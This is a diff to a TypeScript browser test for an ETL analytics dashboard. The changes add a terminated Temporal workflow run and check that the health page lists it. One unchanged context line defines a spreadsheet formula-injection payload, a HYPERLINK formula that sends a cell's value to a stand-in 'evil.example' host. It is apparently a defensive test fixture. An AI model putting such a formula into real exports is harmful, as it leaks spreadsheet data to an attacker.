@@ -17,10 +17,11 @@ import type { Pool } from 'pg';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createDashboard } from '../../dashboard/server';
-import { dashboardPools } from '../../dashboard/start';
+import { dashboardPools, temporalRuns } from '../../dashboard/start';
 import { PANELS } from '../../dashboard/panels';
 import { generateDataset } from '../../shop/generator';
 import { partitionAt } from '../../workflows/partitions';
+import { EtlPipeline } from '../../workflows/search-attributes';
 import { insertAlert } from '../../activities/common/alerts';
 import { runLoad } from '../../activities/common/loads';
 import { launchChromium } from '../support/browser';
@@ -36,12 +37,14 @@ const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
 describe('the dashboard in a real browser, over data the transform loaded (real PostgreSQL, Temporal, S3, Chromium)', () => {
   let env: TestEnv;
   let pools: { analytics: Pool; staging: Pool };
+  let temporal: ReturnType<typeof temporalRuns>;
   let server: Server;
   let base: string;
   let browser: Browser;
   let page: Page;
   let dir: string;
   let range: { from: string; to: string };
+  let terminatedRun: { workflowId: string; runId: string };
   const owner = () => env.deps.analytics;
   const one = async <T>(db: Pool, sql: string, params: unknown[] = []) => (await db.query(sql, params)).rows[0] as T;
   const rowsOf = async (db: Pool, sql: string, params: unknown[] = []) => (await db.query(sql, params)).rows as Array<Record<string, unknown>>;
@@ -79,11 +82,18 @@ describe('the dashboard in a real browser, over data the transform loaded (real 
       for (let i = 0; i < n; i++) await runLoad(env.deps.staging, { loadId: `${pipeline}/test-${prefix}${i}`, pipeline, source: pipeline }, async () => ({ received: 10 + i, loaded: 9, quarantined: 1, duplicates: i }));
     }
     await insertAlert(env.deps.staging, { alertId: `test/${prefix}failed`, pipeline: 'orders', kind: 'failed', message: 'orders partition failed (planted by the dashboard test)', workflowId: 'orders/2026-09-10T12:00', runId: 'run-1' });
+    // A pipeline run that was terminated, as the health page's Temporal panel must list it.
+    const planted = await env.client.workflow.start('plantedByTheDashboardTest', {
+      taskQueue: `nobody-${prefix}`, workflowId: `orders/planted-${prefix}`, args: [], typedSearchAttributes: [{ key: EtlPipeline, value: 'orders' }],
+    });
+    await planted.terminate('planted by the dashboard test');
+    terminatedRun = { workflowId: planted.workflowId, runId: planted.firstExecutionRunId };
     const latest = await one<{ d: string }>(owner(), `select max(order_date)::text d from orders_by_date`);
     range = { from: new Date(Date.parse(latest.d) - 29 * 86_400_000).toISOString().slice(0, 10), to: latest.d };
 
     pools = dashboardPools(env.config);
-    server = createDashboard({ ...pools, temporalUi: { url: env.config.TEMPORAL_UI_URL, namespace: env.config.TEMPORAL_NAMESPACE }, log: () => undefined });
+    temporal = temporalRuns(env.config);
+    server = createDashboard({ ...pools, listRuns: temporal.listRuns, temporalUi: { url: env.config.TEMPORAL_UI_URL, namespace: env.config.TEMPORAL_NAMESPACE }, log: () => undefined });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
     browser = await launchChromium();
@@ -94,7 +104,7 @@ describe('the dashboard in a real browser, over data the transform loaded (real 
   afterAll(async () => {
     await browser?.close();
     await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
-    await Promise.all([pools?.analytics.end(), pools?.staging.end()]);
+    await Promise.all([pools?.analytics.end(), pools?.staging.end(), temporal?.close()]);
     await env?.close();
     if (dir) rmSync(dir, { recursive: true, force: true });
   });
@@ -113,6 +123,9 @@ describe('the dashboard in a real browser, over data the transform loaded (real 
     const visitors = await one<{ v: string }>(pools.analytics, 'select round(sum(visitors)::numeric / ($2::date - $1::date + 1), 1) as v from daily_unique_visitors where event_date between $1 and $2', r);
     expect(kpis).toEqual({ revenue: sales.revenue, orders: sales.orders, 'average order value': aov.v, 'unique visitors per day': visitors.v });
     expect(Number(sales.orders)).toBeGreaterThan(50);
+    // A date without events gets no visitors row (as daily_unique_visitors), not a row of 0.
+    expect(await one(owner(), 'select count(*)::int n from visitors_daily_country where visitors = 0')).toEqual({ n: 0 });
+    expect(await one(owner(), `select count(*)::int n from visitors_daily_country where country = '*'`)).toEqual(await one(owner(), 'select count(*)::int n from daily_unique_visitors'));
 
     const months = await rowsOf(pools.analytics, `select month::text, revenue::text from monthly_revenue where month >= date_trunc('month', $1::date) - interval '11 months' and month <= $1 order by month`, [range.to]);
     expect((await shown('monthly-revenue')).map((m) => ({ month: m.month, revenue: m.revenue }))).toEqual(months);
@@ -201,6 +214,13 @@ describe('the dashboard in a real browser, over data the transform loaded (real 
     expect((await shown('pipeline-freshness')).find((p) => p.pipeline === 'orders')?.received_24h).toBe(received.n);
     const link = await page.getAttribute('#panel-alerts td[data-col=workflow_id] a', 'href');
     expect(link).toBe(`${env.config.TEMPORAL_UI_URL}/namespaces/${env.config.TEMPORAL_NAMESPACE}/workflows/${encodeURIComponent('orders/2026-09-10T12:00')}/run-1/history`);
+    // The terminated run, from Temporal's visibility store (eventually consistent: reload until it shows).
+    await expect.poll(async () => {
+      await open('/health');
+      return (await shown('workflow-runs')).find((r) => r.workflow_id === terminatedRun.workflowId);
+    }, { timeout: 20_000, interval: 1000 }).toMatchObject({ run_id: terminatedRun.runId, status: 'terminated', pipeline: 'orders' });
+    expect(await page.getAttribute(`#panel-workflow-runs td[data-col=workflow_id] a[href*="${encodeURIComponent(terminatedRun.workflowId)}"]`, 'href'))
+      .toBe(`${env.config.TEMPORAL_UI_URL}/namespaces/${env.config.TEMPORAL_NAMESPACE}/workflows/${encodeURIComponent(terminatedRun.workflowId)}/${terminatedRun.runId}/history`);
     await page.screenshot({ path: join(SHOTS, 'health.png'), fullPage: true });
   });
 
